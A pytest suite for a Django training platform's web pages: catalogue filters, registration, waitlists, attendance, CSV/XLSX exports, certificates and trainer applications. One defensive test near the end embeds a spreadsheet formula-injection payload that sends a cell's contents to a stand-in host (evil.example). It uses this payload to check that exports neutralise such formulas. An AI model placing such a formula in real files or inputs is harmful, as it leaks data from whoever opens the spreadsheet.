"""Pages of education as people use them: the catalogue and its filters, a session page, registering,
one's trainings, certificates and their public check, and the pages staff and trainers run sessions from."""

import csv
import datetime
import io
import json
import re

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from spona.core.models import CapacityDomain, Municipality, Region
from spona.learning import services
from spona.learning.models import Attendance, Certificate, Registration, Trainer, TrainingSession
from tests.factories import MembershipFactory, UserFactory
from tests.learning.factories import CourseFactory, RegistrationFactory, TrainerFactory, TrainingSessionFactory

pytestmark = pytest.mark.django_db

LIST_URL = reverse("learning:session-list")


def _titles(response) -> list[str]:
    return [session.course.title for session in response.context["page"].sessions]


# The catalogue ----------------------------------------------------------------------------------


def test_the_catalogue_lists_upcoming_sessions_soonest_first(client):
    later = TrainingSessionFactory(course=CourseFactory(title="Kasnije"))
    sooner = TrainingSessionFactory(
        course=CourseFactory(title="Uskoro"),
        starts_at=later.starts_at - datetime.timedelta(days=3),
        ends_at=later.ends_at - datetime.timedelta(days=3),
    )
    TrainingSessionFactory(course=CourseFactory(title="Nacrt"), status=TrainingSession.Status.DRAFT)
    TrainingSessionFactory(course=CourseFactory(title="Neobjavljen kurs", is_published=False))
    past = TrainingSessionFactory(
        course=CourseFactory(title="Prošla"),
        starts_at=timezone.now() - datetime.timedelta(days=30),
        ends_at=timezone.now() - datetime.timedelta(days=29),
    )

    response = client.get(LIST_URL)

    assert response.status_code == 200
    assert _titles(response) == [sooner.course.title, later.course.title]
    assert _titles(client.get(LIST_URL, {"when": "past"})) == [past.course.title]
    assert "2 upcoming sessions" in response.content.decode()


def test_the_catalogue_filters_by_area_city_month_format_audience_and_language(client):
    fundraising = CapacityDomain.objects.get(slug="fundraising")
    course = CourseFactory(title="Prikupljanje sredstava", audiences=["company"])
    course.domains.set([fundraising])
    belgrade = Municipality.objects.get(code="rs-beograd")
    in_belgrade = TrainingSessionFactory(
        course=course,
        city=Municipality.objects.get(code="rs-beograd-novi-beograd"),
        language="sr",
        format="hybrid",
    )
    TrainingSessionFactory(course=CourseFactory(title="Drugo"))
    month = in_belgrade.starts_at.astimezone(in_belgrade.tz).strftime("%Y-%m")

    for params in [
        {"domain": "fundraising"},
        {"city": belgrade.code},
        {"month": month, "language": "sr"},
        {"format": "hybrid"},
        {"audience": "company"},
    ]:
        assert _titles(client.get(LIST_URL, params)) == ["Prikupljanje sredstava"], params


@pytest.mark.parametrize(
    "params",
    [
        {"month": "2026-13"},
        {"month": "sutra"},
        {"month": "9999-12"},
        {"month": "0001-01"},
        {"city": "atlantis"},
        {"domain": "nope"},
        {"format": "teleport"},
        {"audience": "🙂"},
        {"page": "-5"},
        {"page": "9" * 40},
        {"when": "yesterday"},
        {"sector": "x" * 5000},
    ],
)
def test_bad_filters_give_a_clear_message_never_an_error(client, params):
    TrainingSessionFactory()

    response = client.get(LIST_URL, params)

    assert response.status_code in {200, 404}
    content = response.content.decode()
    if "page" not in params:
        assert "Some filters are not valid" in content


def test_a_page_past_the_end_says_how_many_there_are(client):
    TrainingSessionFactory()

    response = client.get(LIST_URL, {"page": "7"})

    assert response.status_code == 404
    assert "There is no page 7" in response.content.decode()


def test_the_catalogue_makes_the_same_number_of_queries_for_more_sessions(client):
    def count(shown: int) -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.get(LIST_URL)
        assert response.status_code == 200
        assert len(_titles(response)) == shown  # every card rendered, seats and trainers included
        return len(queries)

    TrainingSessionFactory(trainers=[TrainerFactory()])
    count(1)
    few = count(1)
    for _ in range(6):
        TrainingSessionFactory(trainers=[TrainerFactory(), TrainerFactory()])

    assert count(7) == few


# A session --------------------------------------------------------------------------------------


def test_a_session_page_shows_the_facts_and_json_ld_and_asks_visitors_to_sign_in(client):
    session = TrainingSessionFactory(capacity=3, trainers=[TrainerFactory(name="Amra Trenerka")])
    RegistrationFactory(session=session)

    response = client.get(session.get_absolute_url())

    content = response.content.decode()
    assert response.status_code == 200
    assert "Amra Trenerka" in content
    assert "2 of 3 free" in content
    assert "Sign in to register" in content
    assert "csrfmiddlewaretoken" not in content  # the same page for every visitor: it can be stored
    data = json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>', content, re.S).group(1))
    assert data["@type"] == "EducationEvent"
    assert data["startDate"] == session.starts_at.astimezone(session.tz).isoformat()
    assert data["remainingAttendeeCapacity"] == 2
    assert data["location"]["address"]["addressLocality"] == "Centar Sarajevo"
    assert data["performer"] == [{"@type": "Person", "name": "Amra Trenerka"}]


def test_a_session_address_with_an_old_slug_redirects_and_a_draft_is_hidden(client, staff_user):
    session = TrainingSessionFactory()
    draft = TrainingSessionFactory(status=TrainingSession.Status.DRAFT)

    response = client.get(reverse("learning:session-detail", args=[session.pk, "stari-naziv"]))

    assert response.status_code == 301
    assert response.url == session.get_absolute_url()
    assert client.get(draft.get_absolute_url()).status_code == 404
    client.force_login(staff_user)
    assert "only staff see this session" in client.get(draft.get_absolute_url()).content.decode()


def test_a_member_registers_on_behalf_of_their_organization_from_the_session_page(
    client, member_user, organization, mail
):
    session = TrainingSessionFactory(capacity=1)
    client.force_login(member_user)
    page = client.get(session.get_absolute_url()).content.decode()
    assert organization.name in page

    with mail.committing():
        response = client.post(
            reverse("learning:session-register", args=[session.pk]),
            {"organization": organization.pk, "participant": "self", "note": "Vegetarijanac"},
            follow=True,
        )

    registration = Registration.objects.get(session=session)
    assert (registration.participant, registration.organization, registration.note) == (
        member_user,
        organization,
        "Vegetarijanac",
    )
    assert "Your seat is confirmed" in response.content.decode()
    assert "You have a seat." in response.content.decode()
    assert mail.recipients == [[member_user.email]]


def test_an_admin_registers_a_colleague_who_lands_on_the_waitlist(client, member_user, organization):
    session = TrainingSessionFactory(capacity=1)
    RegistrationFactory(session=session)
    colleague = UserFactory(full_name="Kolega Kolegić")
    MembershipFactory(user=colleague, organization=organization, role=200)
    client.force_login(member_user)

    response = client.post(
        reverse("learning:session-register", args=[session.pk]),
        {"organization": organization.pk, "participant": str(colleague.pk)},
        follow=True,
    )

    assert "Kolega Kolegić is on the waitlist" in response.content.decode()
    assert Registration.objects.get(participant=colleague).status == Registration.Status.WAITLISTED


def test_on_behalf_of_starts_at_the_organization_and_a_colleague_picked_alone_is_registered_for_it(
    client, member_user, organization
):
    session = TrainingSessionFactory(capacity=5)
    colleague = UserFactory(full_name="Kolegica Amra")
    MembershipFactory(user=colleague, organization=organization, role=200)
    client.force_login(member_user)

    form = client.get(session.get_absolute_url()).context["form"]
    assert form["organization"].value() == organization.pk

    response = client.post(
        reverse("learning:session-register", args=[session.pk]),
        {"organization": "", "participant": str(colleague.pk)},
        follow=True,
    )

    assert "Kolegica Amra has a seat." in response.content.decode()
    assert Registration.objects.get(participant=colleague).organization == organization
    page = client.get(session.get_absolute_url()).content.decode()
    assert "Colleagues registered" in page and "Kolegica Amra" in page


def test_a_forged_participant_or_organization_is_refused(client, member_user, other_organization):
    session = TrainingSessionFactory()
    stranger = UserFactory()
    client.force_login(member_user)

    for data in ({"participant": str(stranger.pk)}, {"organization": other_organization.pk}, {"organization": "x"}):
        response = client.post(reverse("learning:session-register", args=[session.pk]), data, follow=True)
        assert response.status_code == 200
        assert "Select a valid choice" in response.content.decode()
    assert not session.registrations.exists()


def test_registering_twice_from_the_page_says_so(client, member_user):
    session = TrainingSessionFactory()
    client.force_login(member_user)
    url = reverse("learning:session-register", args=[session.pk])
    client.post(url, {})

    response = client.post(url, {}, follow=True)

    assert "You are already registered for this session." in response.content.decode()
    assert session.registrations.count() == 1


def test_my_trainings_page_shows_status_waitlist_place_and_cancels(client, member_user):
    full = TrainingSessionFactory(capacity=1)
    RegistrationFactory(session=full)
    waiting = services.register_for_session(session=full, participant=member_user, registered_by=member_user)
    client.force_login(member_user)

    page = client.get(reverse("learning:my-registrations")).content.decode()
    assert "on the waitlist" in page
    assert "number 1" in page
    assert "/trainings/calendar/" in page

    response = client.post(reverse("learning:registration-cancel", args=[waiting.pk]), follow=True)
    assert "The registration is cancelled." in response.content.decode()
    waiting.refresh_from_db()
    assert waiting.status == Registration.Status.CANCELLED


# Running a session ------------------------------------------------------------------------------


@pytest.fixture
def running(db):
    """A two-day session that started yesterday at 09:00, its trainer (with an account) and two participants;
    the test runs at 14:00 of its last day (local time), whatever the clock says."""
    afternoon = timezone.localtime().replace(hour=14, minute=0, second=0, microsecond=0)
    with time_machine.travel(afternoon, tick=True):
        start = (afternoon - datetime.timedelta(days=1)).replace(hour=9)
        trainer = TrainerFactory(user=UserFactory(email="trener@example.org"))
        session = TrainingSessionFactory(
            starts_at=start, ends_at=start + datetime.timedelta(days=1, hours=7), trainers=[trainer], capacity=5
        )
        people = [
            RegistrationFactory(session=session, participant=UserFactory(full_name=name))
            for name in ("Ana A.", "Bora B.")
        ]
        yield session, trainer, people


def test_the_trainer_marks_attendance_from_a_phone_and_prints_the_sheet(client, running):
    session, trainer, (ana, bora) = running
    day = session.days()[0].isoformat()
    client.force_login(trainer.user)
    url = reverse("learning:session-attendance", args=[session.pk, day])

    assert "Ana A." in client.get(url).content.decode()
    response = client.post(url, {f"r{ana.pk}": "present", f"r{bora.pk}": "late"}, follow=True)

    assert "Attendance saved for 2 participants." in response.content.decode()
    assert dict(Attendance.objects.values_list("registration_id", "status")) == {ana.pk: "present", bora.pk: "late"}
    sheet = client.get(reverse("learning:session-sign-in-sheet", args=[session.pk, day])).content.decode()
    assert "Signature" in sheet and "Bora B." in sheet
    assert client.get(reverse("learning:session-attendance", args=[session.pk, "2001-01-01"])).status_code == 404
    assert client.get(reverse("learning:session-attendance", args=[session.pk, "not-a-day"])).status_code == 404


def test_participants_export_as_csv_and_xlsx(client, running, staff_user):
    session, _trainer, _people = running
    client.force_login(staff_user)

    csv_response = client.get(reverse("learning:session-export", args=[session.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Name", "E-mail"]
    assert sorted(row[0] for row in rows[1:]) == ["Ana A.", "Bora B."]

    xlsx_response = client.get(reverse("learning:session-export", args=[session.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    assert sheet.max_row == 3
    assert client.get(reverse("learning:session-export", args=[session.pk, "pdf"])).status_code == 404


def test_certificates_are_issued_downloaded_as_pdf_and_checked_by_anyone(client, running, staff_user):
    session, trainer, (ana, bora) = running
    for day in session.days():
        services.mark_attendance(session=session, day=day, marks={ana.pk: "present"}, user=trainer.user)
    client.force_login(trainer.user)

    response = client.post(reverse("learning:session-issue-certificates", args=[session.pk]), follow=True)

    assert "Certificates issued: 1." in response.content.decode()
    certificate = Certificate.objects.get()
    participants = client.get(reverse("learning:session-participants", args=[session.pk])).content.decode()
    assert reverse("learning:certificate-pdf", args=[ana.pk]) in participants and certificate.code in participants
    assert reverse("learning:certificate-pdf", args=[bora.pk]) not in participants
    client.force_login(ana.participant)
    pdf = client.get(reverse("learning:certificate-pdf", args=[ana.pk]))
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    assert client.get(reverse("learning:certificate-pdf", args=[bora.pk])).status_code == 404
    client.logout()
    page = client.get(certificate.get_absolute_url()).content.decode()
    assert "This certificate is genuine." in page and "Ana A." in page
    typed = client.get(reverse("learning:certificate-lookup"), {"code": certificate.code.lower().replace("-", " ")})
    assert "This certificate is genuine." in typed.content.decode()
    missing = client.get(reverse("learning:certificate-verify", args=["AAAA-BBBB-CCCC"]))
    assert missing.status_code == 404
    assert "No certificate has this code" in missing.content.decode()


def test_a_certificate_renders_in_cyrillic_for_a_serbian_participant(running, staff_user):
    session, trainer, (ana, _bora) = running
    ana.participant.language = "sr"
    ana.participant.save()
    for day in session.days():
        services.mark_attendance(session=session, day=day, marks={ana.pk: "present"}, user=trainer.user)
    (certificate,) = services.issue_certificates(session=session, user=staff_user)

    from spona.learning.certificates import render_certificate_pdf, verification_url  # noqa: PLC0415

    pdf = render_certificate_pdf(certificate)
    assert pdf.startswith(b"%PDF")
    assert verification_url(certificate).startswith("http://127.0.0.1:8000/sr/trainings/certificates/")


def test_feedback_is_given_on_the_last_day_and_summed_up_for_the_trainer(client, running):
    session, trainer, (ana, _bora) = running
    services.mark_attendance(session=session, day=session.days()[0], marks={ana.pk: "present"}, user=trainer.user)
    client.force_login(ana.participant)
    url = reverse("learning:registration-feedback", args=[ana.pk])

    bad = client.post(url, {"overall": "9", "content": "4", "trainers": "5", "organization": "4"})
    assert bad.status_code == 200
    assert list(bad.context["form"].errors) == ["overall"]
    assert 'class="error"' in bad.content.decode()
    response = client.post(
        url, {"overall": "5", "content": "4", "trainers": "5", "organization": "4", "comments": "Odlično."}, follow=True
    )
    assert "Thank you for your feedback." in response.content.decode()

    client.force_login(trainer.user)
    summary = client.get(reverse("learning:session-feedback", args=[session.pk])).content.decode()
    assert "Odlično." in summary
    assert "5.0" in summary


# Trainers ---------------------------------------------------------------------------------------


def test_the_roster_shows_accepted_trainers_only(client):
    TrainerFactory(name="Prihvaćena Trenerka")
    TrainerFactory(name="Na čekanju", status="applied")

    content = client.get(reverse("learning:trainer-list")).content.decode()

    assert "Prihvaćena Trenerka" in content
    assert "Na čekanju" not in content


def test_a_person_applies_as_trainer_with_a_checked_photo(client, member_user):
    client.force_login(member_user)
    url = reverse("learning:trainer-apply")
    fake = io.BytesIO(b"not an image")
    fake.name = "photo.png"

    refused = client.post(url, {"name": "Amra", "photo": fake})
    assert "Upload a valid image" in refused.content.decode()
    assert not Trainer.objects.filter(user=member_user).exists()

    response = client.post(url, {"name": "Amra", "headline": "Trenerka", "languages": ["bs", "en"]}, follow=True)
    assert "Staff will review your application" in response.content.decode()
    assert Trainer.objects.get(user=member_user).languages == ["bs", "en"]
    assert client.get(reverse("learning:trainer-edit")).status_code == 404  # not accepted yet


def test_the_roster_filters_by_domain_language_region_and_mentoring(client):
    advocacy = TrainerFactory(name="Zagovaračica", languages=["sr"], is_mentor=True)
    advocacy.domains.set(CapacityDomain.objects.filter(slug="advocacy"))
    advocacy.regions.set(Region.objects.filter(code="rs-00"))
    TrainerFactory(name="Finansijski trener", languages=["bs"])
    url = reverse("learning:trainer-list")

    for params in [{"domain": "advocacy"}, {"language": "sr"}, {"region": "rs-00"}, {"mentor": "on"}]:
        names = [trainer.name for trainer in client.get(url, params).context["trainers"]]
        assert names == ["Zagovaračica"], params
    bad = client.get(url, {"domain": "nope"})
    assert bad.status_code == 200
    assert "Correct the filters" in bad.content.decode()


def test_a_note_that_looks_like_a_formula_stays_text_in_both_exports(client, running, staff_user):
    session, _trainer, (ana, _bora) = running
    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Open details")'
    ana.note = formula
    ana.save()
    client.force_login(staff_user)

    csv_response = client.get(reverse("learning:session-export", args=[session.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    xlsx_response = client.get(reverse("learning:session-export", args=[session.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active

    assert "'" + formula in [row[-1] for row in rows]
    (note,) = [row[-1] for row in sheet.iter_rows(min_row=2) if row[-1].value == formula]
    assert note.data_type == "s"


def test_a_session_that_took_place_no_longer_counts_free_seats(client):
    now = timezone.now()
    held = TrainingSessionFactory(
        starts_at=now - datetime.timedelta(days=3), ends_at=now - datetime.timedelta(days=2), capacity=22
    )
    coming = TrainingSessionFactory(capacity=22)

    page = client.get(held.get_absolute_url()).content.decode()
    card = coming.card_state(now=now), held.card_state(now=now)

    assert card == ("open", "held")
    assert "22 of 22 free" not in page
    assert "22 of 22 free" in client.get(coming.get_absolute_url()).content.decode()
